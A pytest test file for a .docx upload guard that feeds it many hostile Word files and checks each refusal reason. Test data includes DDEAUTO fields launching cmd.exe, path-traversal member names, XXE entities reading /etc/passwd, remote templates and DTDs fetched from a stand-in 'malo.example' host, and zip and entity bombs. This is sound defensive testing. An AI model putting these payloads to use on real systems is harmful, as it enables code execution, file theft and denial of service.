"""What is in a Word file from outside is known before anything in it is used; the rest is refused with its reason."""

import pytest

from docgen.data import KINDS
from docgen.errors import UnsafeFile, explain
from docgen.guard import LARGEST, MOST_MEMBERS, unpack
from docgen.render import read_template, render
from docgen.samples import sample
from tests.docgen import packages as made

_NS = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"

# What was sent -> the problem that is named. Each is one hostile file.
HOSTILE = {
    # no Word file at all
    "empty": (lambda: b"", "not_word"),
    "text": (lambda: b"nada", "not_word"),
    "zeros": (lambda: bytes(4096), "not_word"),
    "pdf": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "pdf"),
    "pdf and zip in one": (lambda: b"%PDF-1.7\n" + made.packed(made.sound()), "pdf"),
    "rtf": (lambda: b"{\\rtf1\\ansi{\\object\\objdata 01}}", "rtf"),
    "old doc or password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "old_word"),
    "html": (lambda: b"<html><script>alert(1)</script></html>", "not_word"),
    "flat xml": (lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>', "not_word"),
    "program": (lambda: b"MZ" + bytes(512), "not_word"),
    "rar": (lambda: b"Rar!\x1a\x07\x00", "not_word"),
    "seven zip": (lambda: b"7z\xbc\xaf\x27\x1c", "not_word"),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(30), "not_word"),
    "zip signature only": (lambda: b"PK\x03\x04", "not_word"),
    "empty zip": (lambda: b"PK\x05\x06" + bytes(18), "not_word"),
    "another zip": (lambda: made.packed({"a.txt": b"x"}), "not_word"),
    "spreadsheet": (
        lambda: made.changed(
            made.TYPES, _MAIN, _MAIN.replace("wordprocessingml.document", "spreadsheetml.sheet")
        ),
        "not_word",
    ),
    "too large": (lambda: b"PK\x03\x04" + bytes(LARGEST), "too_large"),
    "cut in half": (lambda: made.packed(made.sound())[:4000], "not_word"),
    # the ZIP itself
    "too many members": (
        lambda: made.packed({**made.sound(), **{f"word/{n}.txt": b"" for n in range(MOST_MEMBERS)}}),
        "too_many_members",
    ),
    "bomb of zeros": (lambda: made.adding("word/media/a.png", bytes(50_000_000)), "bomb"),
    "bomb of one part": (lambda: made.adding("word/a.xml", b"<a>" + b" " * 30_000_000 + b"</a>"), "bomb"),
    "bomb in the body": (
        lambda: made.packed({**made.sound(), made.DOCUMENT: b"<w:p/>" * 5_000_000}),
        "bomb",
    ),
    "bomb of many": (
        lambda: made.packed({**made.sound(), **{f"word/{n}.bin": bytes(250_000) for n in range(300)}}),
        "bomb",
    ),
    "overlapping members": (made.overlapping, "bomb"),
    "huge size listed": (lambda: made.listed_size(0xFFFFFFFF), "bomb"),
    "smaller size listed": (lambda: made.listed_size(10), "damaged"),
    "wrong checksum": (
        lambda: made.doctored(lambda raw: raw.__setitem__(raw.index(b"PK\x01\x02") + 16, 7)),
        "damaged",
    ),
    "encrypted member": (made.flagged, "encrypted"),
    "bzip2": (lambda: made.method(12), "damaged"),
    "lzma": (lambda: made.method(14), "damaged"),
    "unknown compression": (lambda: made.method(99), "damaged"),
    "symbolic link": (made.linked, "member_name"),
    "traversal": (lambda: made.adding("../../etc/cron.d/x"), "member_name"),
    "traversal inside": (lambda: made.adding("word/../../x"), "member_name"),
    "traversal of windows": (lambda: made.adding("..\\..\\autoexec.bat"), "member_name"),
    "absolute": (lambda: made.adding("/etc/passwd"), "member_name"),
    "drive": (lambda: made.adding("C:/Windows/x"), "member_name"),
    "home": (lambda: made.adding("~/.bashrc"), "member_name"),
    "share": (lambda: made.adding("//host/share"), "member_name"),
    "dot": (lambda: made.adding("word/./a.xml"), "member_name"),
    "doubled bar": (lambda: made.adding("word//a.xml"), "member_name"),
    "null in a name": (lambda: made.adding("word/a.xml\x00.png"), "member_name"),
    "line in a name": (lambda: made.adding("word/a\nb.xml"), "member_name"),
    "reversed name": (lambda: made.adding("word/\u202egnp.exe"), "member_name"),
    "wildcard": (lambda: made.adding("word/*.xml"), "member_name"),
    "long name": (lambda: made.adding("word/" + "a" * 300), "member_name"),
    "two bodies": (lambda: made.adding("word/DOCUMENT.xml", b"<a/>"), "repeated_member"),
    "two types": (lambda: made.adding("[content_types].XML", b"<a/>"), "repeated_member"),
    "program inside": (lambda: made.adding("word/media/virus.exe"), "runnable"),
    "script inside": (lambda: made.adding("word/media/a.vbs"), "runnable"),
    "shortcut inside": (lambda: made.adding("docProps/a.LNK"), "runnable"),
    # missing parts
    "no types": (lambda: made.without(made.TYPES), "not_word"),
    "no package relationships": (lambda: made.without("_rels/.rels"), "not_word"),
    "no body": (lambda: made.without(made.DOCUMENT), "missing_part"),
    "no styles": (lambda: made.without("word/styles.xml"), "missing_part"),
    "no header": (lambda: made.without("word/header1.xml"), "missing_part"),
    "no core properties": (lambda: made.without("docProps/core.xml"), "missing_part"),
    "relationship to nothing": (lambda: made.related("image", "media/nada.png"), "missing_part"),
    "relationship out of the package": (lambda: made.related("image", "../../../etc/passwd"), "missing_part"),
    "relationship with escapes": (lambda: made.related("image", "%2e%2e/%2e%2e/etc/passwd"), "missing_part"),
    # macros
    "macros": (lambda: made.adding("word/vbaProject.bin"), "macros"),
    "macros elsewhere": (lambda: made.adding("customXml/vbaProject.bin"), "macros"),
    "macro data": (lambda: made.adding("word/vbaData.xml", b"<a/>"), "macros"),
    "macro type": (lambda: made.changed(made.TYPES, _MAIN, _MACRO), "macros"),
    "macro relationship": (
        lambda: made.related("vbaProject", "styles.xml"),
        "macros",
    ),
    "template of word": (lambda: made.changed(made.TYPES, _MAIN, _DOTX), "dotx"),
    # what is not of the document
    "embedded workbook": (lambda: made.adding("word/embeddings/libro.xlsx"), "embedded"),
    "activeX": (lambda: made.adding("word/activeX/activeX1.xml", b"<a/>"), "embedded"),
    "object relationship": (lambda: made.related("oleObject", "styles.xml"), "embedded"),
    "package relationship": (lambda: made.related("package", "styles.xml"), "embedded"),
    "control relationship": (lambda: made.related("control", "styles.xml"), "embedded"),
    "object": (lambda: made.bodied("<w:r><w:object/></w:r>"), "embedded"),
    "ole object": (
        lambda: made.bodied(f'<w:r><w:pict><o:OLEObject {_NS} Type="Link"/></w:pict></w:r>'),
        "embedded",
    ),
    "control": (lambda: made.bodied("<w:r><w:control/></w:r>"), "embedded"),
    "alternative chunk": (lambda: made.related("aFChunk", "styles.xml"), "chunk"),
    "alternative chunk element": (lambda: made.bodied('<w:altChunk r:id="z"/>'), "chunk"),
    "attached template": (
        lambda: made.related("attachedTemplate", "https://malo.example/p.dotm", "External"),
        "attached_template",
    ),
    "attached template of a share": (
        lambda: made.related("attachedTemplate", "file://///10.0.0.1/p.dotm", "External"),
        "attached_template",
    ),
    "attached template in the settings": (
        lambda: made.changed("word/settings.xml", "</w:settings>", "<w:attachedTemplate/></w:settings>"),
        "attached_template",
    ),
    "remote picture": (lambda: made.related("image", "https://malo.example/a.png", "External"), "external"),
    "remote picture of a share": (lambda: made.related("image", "\\\\malo\\a.png", "External"), "external"),
    "local picture": (lambda: made.related("image", "file:///etc/passwd", "External"), "external"),
    "external in small letters": (
        lambda: made.related("image", "http://malo.example", "external"),
        "external",
    ),
    "hyperlink": (lambda: made.related("hyperlink", "https://malo.example", "External"), "external"),
    "frame": (lambda: made.related("frame", "https://malo.example", "External"), "external"),
    "subdocument": (lambda: made.related("subDocument", "otro.docx", "External"), "external"),
    "subdocument element": (lambda: made.bodied('<w:subDoc r:id="z"/>'), "external"),
    "mail merge": (lambda: made.related("mailMergeSource", "file:///c:/datos.odc", "External"), "external"),
    "mail merge in the settings": (
        lambda: made.changed("word/settings.xml", "</w:settings>", "<w:mailMerge/></w:settings>"),
        "external",
    ),
    "external from the header": (
        lambda: made.adding(
            "word/_rels/header1.xml.rels",
            f'<R><r Id="a" Type="{_REL}/image" Target="http://malo.example" TargetMode="External"/></R>'.encode(),
        ),
        "external",
    ),
    # fields
    "dde": (lambda: made.field('DDE cmd "/c calc"'), "field"),
    "automatic dde": (lambda: made.field('DDEAUTO c:\\windows\\cmd.exe "/k calc"'), "field"),
    "dde in pieces": (lambda: made.field("D", "DE", "AU", "TO cmd"), "field"),
    "dde in small letters": (lambda: made.field("  ddeauto cmd"), "field"),
    "dde in a simple field": (
        lambda: made.bodied('<w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple>'),
        "field",
    ),
    "dde without a beginning": (lambda: made.bodied("<w:r><w:instrText>DDE x</w:instrText></w:r>"), "field"),
    "dde that never ends": (
        lambda: made.bodied(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>'
        ),
        "field",
    ),
    "dde that was deleted": (
        lambda: made.bodied("<w:del><w:r><w:delInstrText>DDE x</w:delInstrText></w:r></w:del>"),
        "field",
    ),
    "quote": (lambda: made.field("QUOTE 68 68 69"), "field"),
    "included text": (lambda: made.field('INCLUDETEXT "c:\\\\secreto.docx"'), "field"),
    "included picture": (lambda: made.field('INCLUDEPICTURE "http://malo.example/a.png" \\d'), "field"),
    "import": (lambda: made.field('IMPORT "a.png"'), "field"),
    "link": (lambda: made.field("LINK Excel.Sheet.8 c:\\\\a.xls"), "field"),
    "embed": (lambda: made.field("EMBED Package"), "field"),
    "database": (lambda: made.field("DATABASE \\d c:\\\\a.mdb"), "field"),
    "referenced document": (lambda: made.field("RD otro.docx"), "field"),
    "macro button": (lambda: made.field("MACROBUTTON Abrir Pulse"), "field"),
    "automatic text": (lambda: made.field("AUTOTEXT firma"), "field"),
    "merge field": (lambda: made.field("MERGEFIELD nombre"), "field"),
    "user's name": (lambda: made.field("USERADDRESS"), "field"),
    "print": (lambda: made.field("PRINT 27"), "field"),
    "outward hyperlink field": (lambda: made.field('HYPERLINK "https://malo.example"'), "field"),
    "field in a header": (
        lambda: made.changed(
            "word/header2.xml",
            "</w:hdr>",
            '<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p></w:hdr>',
        ),
        "field",
    ),
    # the XML
    "entity bomb": (lambda: made.with_dtd(made.laughing()), "dtd"),
    "quadratic entities": (
        lambda: made.with_dtd(f'<!DOCTYPE w [<!ENTITY a "{"a" * 50_000}">]>'),
        "dtd",
    ),
    "external entity": (
        lambda: made.with_dtd('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        "dtd",
    ),
    "parameter entity": (
        lambda: made.with_dtd('<!DOCTYPE w [<!ENTITY % a SYSTEM "http://malo.example/a.dtd"> %a;]>'),
        "dtd",
    ),
    "external dtd": (lambda: made.with_dtd('<!DOCTYPE w SYSTEM "http://malo.example/w.dtd">'), "dtd"),
    "dtd in the types": (lambda: made.with_dtd('<!DOCTYPE w SYSTEM "x">', made.TYPES), "dtd"),
    "dtd in the relationships": (lambda: made.with_dtd('<!DOCTYPE w SYSTEM "x">', made.RELS), "dtd"),
    "dtd in the properties": (lambda: made.with_dtd("<!DOCTYPE w>", "docProps/core.xml"), "dtd"),
    "dtd in utf-16": (
        lambda: made.recoded(
            made.DOCUMENT,
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "b">]><w>&a;</w>',
            "utf-16",
        ),
        "dtd",
    ),
    "dtd in utf-7": (
        lambda: made.recoded(
            made.DOCUMENT, '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE w+AD4-<w/>', "ascii"
        ),
        "encoding",
    ),
    "latin": (
        lambda: made.recoded(made.DOCUMENT, '<?xml version="1.0" encoding="ISO-8859-1"?><w>é</w>', "latin-1"),
        "encoding",
    ),
    "ebcdic": (lambda: made.recoded(made.DOCUMENT, '<?xml version="1.0"?><w/>', "cp500"), "encoding"),
    "unknown entity": (lambda: made.bodied("<w:r><w:t>&nada;</w:t></w:r>"), "malformed_part"),
    "unclosed": (lambda: made.bodied("<w:r>"), "malformed_part"),
    "no root": (lambda: made.packed({**made.sound(), "word/styles.xml": b""}), "malformed_part"),
    "two roots": (lambda: made.packed({**made.sound(), "word/styles.xml": b"<a/><b/>"}), "malformed_part"),
    "unbound prefix": (lambda: made.bodied("<zz:r/>"), "malformed_part"),
    "attribute twice": (lambda: made.bodied('<w:r a="1" a="2"/>'), "malformed_part"),
    "control character": (lambda: made.bodied("<w:r><w:t>\x01</w:t></w:r>"), "malformed_part"),
    "endless depth": (
        lambda: made.packed({**made.sound(), "word/styles.xml": b"<a>" * 5000 + b"</a>" * 5000}),
        "malformed_part",
    ),
}


@pytest.mark.parametrize(("made_file", "problem"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_is_refused_with_what_is_wrong_in_one_line(made_file, problem):
    with pytest.raises(UnsafeFile) as refused:
        unpack(made_file())
    assert refused.value.problem == problem
    said = explain(refused.value)
    assert said.startswith("El archivo no se acepta: ")
    assert "\n" not in said
    assert len(said) < 500


@pytest.mark.parametrize("name", ["dde", "object", "alternative chunk element"])
def test_what_stands_in_the_text_is_refused_with_its_paragraph(name):
    with pytest.raises(UnsafeFile) as refused:
        unpack(HOSTILE[name][0]())
    assert refused.value.place.startswith("Aquí")
    assert "Está en el párrafo «Aquí" in explain(refused.value)


@pytest.mark.parametrize("kind", KINDS)
def test_our_own_templates_and_what_they_print_are_taken_in_whole(kind):
    for content in (read_template(kind), render(kind, sample(kind))):
        members = unpack(content)
        assert made.packed(members) == made.packed(dict(members))
        assert "word/document.xml" in members


@pytest.mark.parametrize(
    "content",
    [
        made.field("PAGE"),
        made.field(' TOC \\o "1-3" \\h '),
        made.field(' HYPERLINK \\l "_Toc1" '),
        made.field(" = 2 + 2 "),
        made.bodied("<w:ins><w:r><w:t>x</w:t></w:r></w:ins>"),
        made.adding("word/media/image1.png"),
        made.adding("customXml/item1.xml", b"<a/>"),
        made.adding("docProps/thumbnail.jpeg"),
        made.adding("word/media/", b""),
    ],
)
def test_what_word_itself_writes_is_taken_in(content):
    assert unpack(content)


def test_a_document_may_link_to_pages_where_that_is_allowed_and_to_nothing_else():
    for target in ("https://www.gob.pe/midis", "mailto:st@example.pe"):
        assert unpack(made.related("hyperlink", target, "External"), hyperlinks=True)
    assert unpack(made.field('HYPERLINK "https://www.gob.pe"'), hyperlinks=True)
    for target in ("file:///etc/passwd", "javascript:alert(1)", "\\\\malo\\x", "http://[", "ms-msdt:/id"):
        with pytest.raises(UnsafeFile):
            unpack(made.related("hyperlink", target, "External"), hyperlinks=True)
